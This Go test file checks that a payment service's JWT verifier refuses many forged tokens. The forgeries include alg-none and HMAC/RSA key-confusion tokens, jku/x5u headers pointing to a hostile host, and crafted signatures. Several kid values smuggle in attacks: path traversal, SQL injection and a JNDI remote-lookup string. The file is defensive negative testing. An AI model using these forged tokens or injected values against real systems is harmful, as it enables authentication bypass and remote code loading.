package token_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"math/big"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/purser-pay/purser/modules/payment"
	"github.com/purser-pay/purser/modules/token"
)

type attack struct{ name, text string }

var update = flag.Bool("update", false, "write testdata/attacks.txt")

// TestAttacks: all of these differ in one thing from a token that is taken, and
// none is. Each is refused for its own reason, which testdata/attacks.txt has, and
// no reason quotes the token.
func TestAttacks(t *testing.T) {
	inBubble(t, func(cfg *token.Config, i *idp) {
		i.body = setOf(es().jwk(nil), es2().jwk(nil), rs().jwk(claims{"alg": absent{}}), ed().jwk(nil))
		cfg.Issuers[0].Merchants = []string{merA}
	}, func(r *rig) {
		t := r.t
		ok := good(time.Now())
		for _, s := range []signer{es(), es2(), ps(), ed()} {
			r.takes(t, s.token(ok))
		}
		attacks := slices.Concat(algorithmAttacks(ok), headerAttacks(ok), formAttacks(ok), jsonAttacks(ok), signatureAttacks(ok))
		for name, change := range claimAttacks(time.Now()) {
			attacks = append(attacks, attack{name, ed().token(ok.with(change))})
		}
		var reasons []string
		for _, a := range attacks {
			_, err := r.Verify(t.Context(), a.text)
			if !errors.Is(err, token.ErrInvalid) {
				t.Errorf("%s: got %v, want ErrInvalid", a.name, err)
				continue
			}
			quotesNothing(t, err, a.text)
			reasons = append(reasons, fmt.Sprintf("%q: %v\n", a.name, err))
		}
		slices.Sort(reasons)
		got := strings.Join(reasons, "")
		if *update {
			if err := os.WriteFile("testdata/attacks.txt", []byte(got), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if diff := cmp.Diff(string(must(os.ReadFile("testdata/attacks.txt"))), got); diff != "" {
			t.Errorf("the reasons, which -update writes out (-want +got):\n%s", diff)
		}
	})
}

// quotesNothing looks for eight characters in a row of a token's parts, encoded
// or not, in an error. Numbers, names of claims and what a token has in common
// with the error's own words are in all of them.
func quotesNothing(t *testing.T, err error, text string) {
	t.Helper()
	said := err.Error()
	for part := range strings.SplitSeq(text, ".") {
		for i := 0; i+12 <= len(part); i++ {
			if strings.Contains(said, part[i:i+12]) {
				t.Errorf("the error quotes the token: %v", err)
				return
			}
		}
	}
	for _, mark := range []string{"shop-1", "till", "j-1", merA, merB, "hostile"} {
		if strings.Contains(said, mark) {
			t.Errorf("the error quotes %q: %v", mark, err)
		}
	}
}

func hs256(header, payload string, secret []byte) string {
	signed := b64s(header) + "." + b64s(payload)
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(signed))
	return signed + "." + b64(mac.Sum(nil))
}

func algorithmAttacks(ok claims) []attack {
	var list []attack
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "", " none", "none\x00", "es256", "ES256 ", "ES384", "ES512", "ES256K", "RS384", "PS384", "HS256", "dir", "Ed25519"} {
		header := claims{"alg": alg, "kid": "ec"}.text()
		list = append(
			list,
			attack{"alg " + alg + ", no signature", b64s(header) + "." + b64s(ok.text()) + "."},
			attack{"alg " + alg + ", any signature", b64s(header) + "." + b64s(ok.text()) + ".AAAA"},
			attack{"alg " + alg + ", a good signature", es().raw(header, ok.text())},
		)
	}
	for name, alg := range map[string]any{"a number": 1, "a list": []string{"ES256"}, "null": nil, "missing": absent{}, "true": true} {
		list = append(list, attack{"alg is " + name, es().raw(claims{"kid": "ec"}.with(claims{"alg": alg}).text(), ok.text())})
	}

	// HS/RS confusion: the public key, in any form that a library may hold, as a
	// shared secret.
	public := anRSA().Public().(*rsa.PublicKey)
	pkix := must(x509.MarshalPKIXPublicKey(public))
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	for name, secret := range map[string][]byte{
		"PKIX PEM":   pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix}),
		"PKCS 1 PEM": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"PKIX DER":   pkix, "PKCS 1 DER": pkcs1, "modulus": public.N.Bytes(), "JWK": []byte(rs().jwk(nil)), "nothing": nil,
	} {
		for _, alg := range []string{"HS256", "RS256", "PS256"} {
			header := claims{"alg": alg, "kid": "rsa"}.text()
			list = append(list, attack{"HMAC with " + name + " as " + alg, hs256(header, ok.text(), secret)})
		}
	}
	return append(
		list,
		attack{"RS256 is not on the issuer's list", rs().token(ok)},
		attack{"an RS256 signature as PS256", rs().raw(ps().header(), ok.text())},
		attack{"an ES256 signature as EdDSA", es().raw(ed().header(), ok.text())},
		attack{"ES256 under the RSA key", es().raw(`{"alg":"ES256","kid":"rsa"}`, ok.text())},
		attack{"PS256 under the EC key", ps().raw(`{"alg":"PS256","kid":"ec"}`, ok.text())},
		attack{"EdDSA under the EC key", ed().raw(`{"alg":"EdDSA","kid":"ec"}`, ok.text())},
	)
}

func headerAttacks(ok claims) []attack {
	evil := signer{"ES256", "ec", newEC()}
	var list []attack
	head := func(name string, s signer, change claims) {
		header := claims{"alg": s.alg, "kid": s.kid, "typ": "at+jwt"}.with(change).text()
		list = append(list, attack{name, s.raw(header, ok.text())})
	}
	own := map[string]any(claims{"kty": "hostile"})
	head("its own jwk, signed by it", evil, claims{"jwk": own})
	head("its own jwk, signed well", es(), claims{"jwk": own})
	head("jku", es(), claims{"jku": "https://hostile.example/jwks.json"})
	head("x5u", es(), claims{"x5u": "https://hostile.example/x.pem"})
	head("x5c, signed by it", evil, claims{"x5c": []string{"hostile"}})
	for _, kid := range []string{
		"../../../../../../dev/null", "/dev/null", "hostile' OR 1=1--", "ec\x00", "EC", "", "hostile\n", "http://hostile.example/key",
		"${jndi:ldap://hostile.example}", strings.Repeat("hostile", 40), "|hostile",
	} {
		head("kid "+kid, es(), claims{"kid": kid})
	}
	for name, kid := range map[string]any{"a number": 1, "a list": []string{"ec"}, "null": nil, "an object": map[string]any{"ec": "ec"}} {
		head("kid is "+name, es(), claims{"kid": kid})
	}
	head("no kid where two keys fit", es(), claims{"kid": absent{}})
	head("the kid of the other key", es(), claims{"kid": "ec2"})
	for name, crit := range map[string]any{
		"empty": []string{}, "unknown": []string{"hostile"}, "of a standard name": []string{"exp"}, "of an absent name": []string{"b64"},
		"text": "exp", "null": nil,
	} {
		head("crit is "+name, es(), claims{"crit": crit})
	}
	head("crit with b64", es(), claims{"crit": []string{"b64"}, "b64": false})
	head("b64 true", es(), claims{"b64": true})
	for _, typ := range []any{"dpop+jwt", "", "secevent+jwt", "logout+jwt", "at+jwt2", "at", 1, nil, []string{"at+jwt"}} {
		head(fmt.Sprintf("typ %v", typ), es(), claims{"typ": typ})
	}
	unencoded := b64s(`{"alg":"ES256","kid":"ec","b64":false,"crit":["b64"]}`) + "." + ok.text()
	return append(
		list,
		attack{"an unencoded payload", unencoded + "." + b64(es().sign(unencoded))},
		attack{"alg twice", es().raw(`{"alg":"ES256","kid":"ec","alg":"none"}`, ok.text())},
		attack{"alg twice, escaped", es().raw(`{"alg":"ES256","kid":"ec","\u0061lg":"none"}`, ok.text())},
		attack{"alg and ALG", es().raw(`{"alg":"ES256","kid":"ec","ALG":"none"}`, ok.text())},
		attack{"Alg alone", es().raw(`{"Alg":"ES256","kid":"ec"}`, ok.text())},
		attack{"kid and kid with the sign of Kelvin", es().raw(`{"alg":"ES256","kid":"ec","`+"\u212a"+`id":"ec2"}`, ok.text())},
		attack{"kid twice", es().raw(`{"alg":"ES256","kid":"ec2","kid":"ec"}`, ok.text())},
	)
}

func formAttacks(ok claims) []attack {
	text := ed().token(ok)
	part := strings.Split(text, ".")
	header, payload, sig := part[0], part[1], part[2]
	// The last character of 64 bytes in base64 carries four bits that say nothing.
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	trailing := sig[:len(sig)-1] + string(alphabet[strings.IndexByte(alphabet, sig[len(sig)-1])+1])
	standard := base64.RawStdEncoding.EncodeToString([]byte("{\"alg\":\"EdDSA\",\"kid\":\"ed\",\"x\":\"???>>>\"}"))
	return []attack{
		{"empty", ""},
		{"dots alone", ".."},
		{"one part", header},
		{"two parts", header + "." + payload},
		{"no signature", header + "." + payload + "."},
		{"no payload", header + ".." + sig},
		{"no header", "." + payload + "." + sig},
		{"four parts", text + "." + sig},
		{"five parts, as a JWE", text + "." + sig + "." + sig},
		{"a dot after it", text + "."},
		{"a dot before it", "." + text},
		{"a space before it", " " + text},
		{"a line break after it", text + "\n"},
		{"a line break in it", header + "." + payload[:8] + "\r\n" + payload[8:] + "." + sig},
		{"a null byte after it", text + "\x00"},
		{"padding of the signature", text + "=="},
		{"padding of the header", header + "=." + payload + "." + sig},
		{"bits after the end", header + "." + payload + "." + trailing},
		{"a character too many", text + "A"},
		{"the other base64", standard + "." + payload + "." + b64(ed().sign(standard+"."+payload))},
		{"percent-encoding", strings.ReplaceAll(text, ".", "%2E")},
		{"flattened JSON", `{"protected":"` + header + `","payload":"` + payload + `","signature":"` + sig + `"}`},
		{"general JSON", `{"payload":"` + payload + `","signatures":[{"protected":"` + header + `","signature":"` + sig + `"}]}`},
		{"more than 8 KiB", ed().token(ok.with(claims{"pad": strings.Repeat("x", 6<<10)}))},
		{"8 MiB", strings.Repeat("eyJ", 8<<20/3) + ".e30.AAAA"},
		{"a detached payload", header + ".." + b64(ed().sign(header+"."))},
	}
}

func jsonAttacks(ok claims) []attack {
	text := ok.text()
	with := func(name, members string) attack {
		return attack{name, ed().raw(ed().header(), strings.TrimSuffix(text, "}")+","+members+"}")}
	}
	whole := func(name, payload string) attack { return attack{name, ed().raw(ed().header(), payload)} }
	var utf16 []byte
	for _, c := range []byte(text) {
		utf16 = append(utf16, c, 0)
	}
	return []attack{
		with("exp twice", `"exp":99999999999`),
		with("exp twice, escaped", `"e\u0078p":99999999999`),
		with("exp and EXP", `"EXP":99999999999`),
		with("merchant and Merchant", `"Merchant":"`+merB+`"`),
		with("sub and sub with a long s", `"`+"\u017f"+`ub":"hostile"`),
		with("a name twice, inside", `"x":{"a":1,"a":2}`),
		with("nine deep", `"x":[[[[[[[[1]]]]]]]]`),
		with("2000 deep", `"x":`+strings.Repeat("[", 2000)+strings.Repeat("]", 2000)),
		with("bytes that are no UTF-8", "\"x\":\"\xff\xfe\""),
		with("half a surrogate", `"x":"\ud800"`),
		with("a comment", `"x":1/**/`),
		with("NaN", `"x":NaN`),
		with("a comma at the end", ``),
		with("a number with a leading zero", `"x":01`),
		with("a control character", "\"x\":\"\n\""),
		whole("an array", "["+text+"]"),
		whole("text", `"hostile"`),
		whole("null", "null"),
		whole("nothing", ""),
		whole("an empty object", "{}"),
		whole("two objects", text+text),
		whole("something after it", text+"x"),
		whole("half of it", text[:len(text)/2]),
		whole("a byte order mark", "\ufeff"+text),
		whole("UTF-16", string(utf16)),
		whole("a token in it", ed().token(ok)),
		whole("single quotes", strings.ReplaceAll(text, `"`, "'")),
		whole("exp is NaN", strings.Replace(text, `"exp":`, `"exp":NaN,"x":`, 1)),
		whole("exp is Infinity", strings.Replace(text, `"exp":`, `"exp":Infinity,"x":`, 1)),
		whole("exp is 1e10", strings.Replace(text, `"exp":`, `"exp":1e10,"x":`, 1)),
		whole("exp is 9.5E8", strings.Replace(text, `"exp":`, `"exp":9.5E8,"x":`, 1)),
		whole("exp is 1e400", strings.Replace(text, `"exp":`, `"exp":1e400,"x":`, 1)),
		whole("exp is 2^64", strings.Replace(text, `"exp":`, `"exp":18446744073709551616,"x":`, 1)),
		whole("exp is 2^63 + now", strings.Replace(text, `"exp":9`, `"exp":9223372037801460307,"x":9`, 1)),
		whole("exp is in the year 10000", strings.Replace(text, `"exp":`, `"exp":253402300800,"x":`, 1)),
		whole("exp has ten decimals", strings.Replace(text, `"exp":`, `"exp":946685100.0000000001,"x":`, 1)),
		whole("exp is -1", strings.Replace(text, `"exp":`, `"exp":-1,"x":`, 1)),
		whole("exp is 0", strings.Replace(text, `"exp":`, `"exp":0,"x":`, 1)),
	}
}

func claimAttacks(now time.Time) map[string]claims {
	at := func(d time.Duration) int64 { return now.Add(d).Unix() }
	sum := b64(make([]byte, 32))
	return map[string]claims{
		"iss is missing":             {"iss": absent{}},
		"iss is another":             {"iss": "https://hostile.example"},
		"iss has a slash":            {"iss": issuerName + "/"},
		"iss in upper case":          {"iss": strings.ToUpper(issuerName)},
		"iss is a list":              {"iss": []string{issuerName}},
		"iss is null":                {"iss": nil},
		"aud is missing":             {"aud": absent{}},
		"aud is another":             {"aud": "hostile"},
		"aud begins alike":           {"aud": "payments-api2"},
		"aud has a space":            {"aud": "payments-api hostile"},
		"aud is a number":            {"aud": 1},
		"aud is null":                {"aud": nil},
		"aud is an object":           {"aud": map[string]any{"payments-api": true}},
		"aud is an empty list":       {"aud": []string{}},
		"aud is an empty string":     {"aud": ""},
		"aud is a list of others":    {"aud": []string{"hostile", ""}},
		"aud has a number":           {"aud": []any{"payments-api", 1}},
		"aud has a list":             {"aud": []any{[]string{"payments-api"}}},
		"exp is missing":             {"exp": absent{}},
		"exp is text":                {"exp": fmt.Sprint(at(time.Minute))},
		"exp is null":                {"exp": nil},
		"exp is true":                {"exp": true},
		"exp is a list":              {"exp": []int64{at(time.Minute)}},
		"exp is over":                {"exp": at(-10 * time.Second), "iat": at(-time.Minute), "nbf": at(-time.Minute)},
		"exp before iat":             {"exp": at(-time.Second)},
		"exp in milliseconds":        {"exp": now.Add(time.Minute).UnixMilli()},
		"too long a life":            {"exp": at(time.Hour + time.Second)},
		"too long a life since nbf":  {"exp": at(time.Hour + time.Second), "iat": absent{}},
		"too long a life since now":  {"exp": at(time.Hour + time.Second), "iat": absent{}, "nbf": absent{}},
		"nbf is ahead":               {"nbf": at(11 * time.Second)},
		"nbf is text":                {"nbf": "0"},
		"nbf is null":                {"nbf": nil},
		"iat is ahead":               {"iat": at(11 * time.Second)},
		"iat is text":                {"iat": "0"},
		"iat is negative":            {"iat": -1},
		"iat is long ago":            {"iat": 0},
		"merchant is missing":        {"merchant": absent{}},
		"merchant is not theirs":     {"merchant": merB},
		"merchant is a star":         {"merchant": "*"},
		"merchant is empty":          {"merchant": ""},
		"merchant is a list":         {"merchant": []string{merA}},
		"merchant is no ID":          {"merchant": "hostile"},
		"merchant has a space":       {"merchant": merA + " "},
		"merchant in upper case":     {"merchant": strings.ToUpper(merA)},
		"mode is missing":            {"mode": absent{}},
		"mode is live":               {"mode": "live"},
		"mode is empty":              {"mode": ""},
		"mode in upper case":         {"mode": "TEST"},
		"mode is true":               {"mode": true},
		"scope is a number":          {"scope": 1},
		"scope is null":              {"scope": nil},
		"scope has a number":         {"scope": []any{"payments:read", 1}},
		"scope is an object":         {"scope": map[string]any{}},
		"sub is a number":            {"sub": 1},
		"sub is empty":               {"sub": ""},
		"sub has a line break":       {"sub": "hostile\nline"},
		"sub is long":                {"sub": strings.Repeat("x", 256)},
		"client_id is a list":        {"client_id": []string{}},
		"jti is long":                {"jti": strings.Repeat("x", 256)},
		"jti is null":                {"jti": nil},
		"cnf is null":                {"cnf": nil},
		"cnf is empty":               {"cnf": map[string]any{}},
		"cnf is text":                {"cnf": sum},
		"cnf is a list":              {"cnf": []any{map[string]any{"jkt": sum}}},
		"cnf has a jwk":              {"cnf": map[string]any{"jwk": map[string]any{"kty": "EC"}}},
		"cnf has a kid":              {"cnf": map[string]any{"kid": sum}},
		"cnf has x5t, which is SHA1": {"cnf": map[string]any{"x5t": sum}},
		"cnf has one we know not":    {"cnf": map[string]any{"jkt": sum, "hostile": sum}},
		"cnf has JKT":                {"cnf": map[string]any{"JKT": sum}},
		"jkt is short":               {"cnf": map[string]any{"jkt": b64(make([]byte, 31))}},
		"jkt is empty":               {"cnf": map[string]any{"jkt": ""}},
		"jkt is null":                {"cnf": map[string]any{"jkt": nil}},
		"x5t#S256 is padded":         {"cnf": map[string]any{"x5t#S256": sum + "="}},
		"x5t#S256 in hex":            {"cnf": map[string]any{"x5t#S256": strings.Repeat("0", 64)}},
	}
}

func signatureAttacks(ok claims) []attack {
	text := es().token(ok)
	signed := text[:strings.LastIndexByte(text, '.')]
	sig := es().sign(signed)
	order, _ := new(big.Int).SetString("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)
	der := must(asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(sig[:32]), new(big.Int).SetBytes(sig[32:])}))
	zero, n := make([]byte, 32), order.Bytes()
	join := func(parts ...[]byte) string { return signed + "." + b64(bytes.Join(parts, nil)) }
	flipped := bytes.Clone(sig)
	flipped[40] ^= 1
	edSigned := strings.Join(strings.Split(ed().token(ok), ".")[:2], ".")
	longLived := ok.with(claims{"exp": ok["exp"].(int64) + 60})
	other := strings.Split(ed().token(ok.with(claims{"jti": "j-2"})), ".")
	return []attack{
		{"DER", join(der)},
		{"r and s are zero", join(zero, zero)},
		{"r is zero", join(zero, sig[32:])},
		{"s is zero", join(sig[:32], zero)},
		{"r is the order", join(n, sig[32:])},
		{"s is the order", join(sig[:32], n)},
		{"r and s are one", join(zero[:31], []byte{1}, zero[:31], []byte{1})},
		{"s + the order would not fit, ff instead", join(sig[:32], bytes.Repeat([]byte{0xff}, 32))},
		{"63 bytes", join(sig[:63])},
		{"65 bytes", join(sig, []byte{0})},
		{"r and s in 33 bytes each", join([]byte{0}, sig[:32], []byte{0}, sig[32:])},
		{"a bit flipped", join(flipped)},
		{"another key's", signer{"ES256", "ec", newEC()}.token(ok)},
		{"another issuer's key of the same kid", signer{"ES256", "ec", anotherEC()}.token(ok)},
		{"another token's", edSigned + "." + other[2]},
		{"of the claims before they were changed", strings.Split(ed().token(ok), ".")[0] + "." + b64s(longLived.text()) + "." + strings.Split(ed().token(ok), ".")[2]},
		{"Ed25519 all zero", edSigned + "." + b64(make([]byte, 64))},
		{"Ed25519 of the payload alone", edSigned + "." + b64(ed().sign(b64s(ok.text())))},
		{"Ed25519 with S beyond the order", edSigned + "." + b64(beyond(ed().sign(edSigned)))},
	}
}

// beyond adds the order of the group to S of an Ed25519 signature, which verifies
// where that is not looked for.
func beyond(sig []byte) []byte {
	order := []byte{
		0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
	}
	out, carry := bytes.Clone(sig), 0
	for i, b := range order {
		sum := int(out[32+i]) + int(b) + carry
		out[32+i], carry = byte(sum), sum>>8
	}
	return out
}

// TestUnboundedRights: where all is allowed, all is still checked.
func TestUnboundedRights(t *testing.T) {
	inBubble(t, func(cfg *token.Config, _ *idp) {
		cfg.Issuers[0].Merchants = []string{"*"}
		cfg.Issuers[0].Modes = []payment.Mode{payment.Test, payment.Live}
	}, func(r *rig) {
		t := r.t
		ok := good(time.Now())
		if id := r.takes(t, es().token(ok.with(claims{"merchant": merB, "mode": "live"}))); id.Merchant != merB || id.Mode != payment.Live {
			t.Errorf("got %s in mode %s, want %s in mode live", id.Merchant, id.Mode, merB)
		}
		for _, change := range []claims{{"merchant": "*"}, {"merchant": "shop"}, {"merchant": absent{}}, {"mode": "prod"}, {"mode": absent{}}} {
			r.refuses(t, es().token(ok.with(change)), token.ErrInvalid)
		}
	})
}
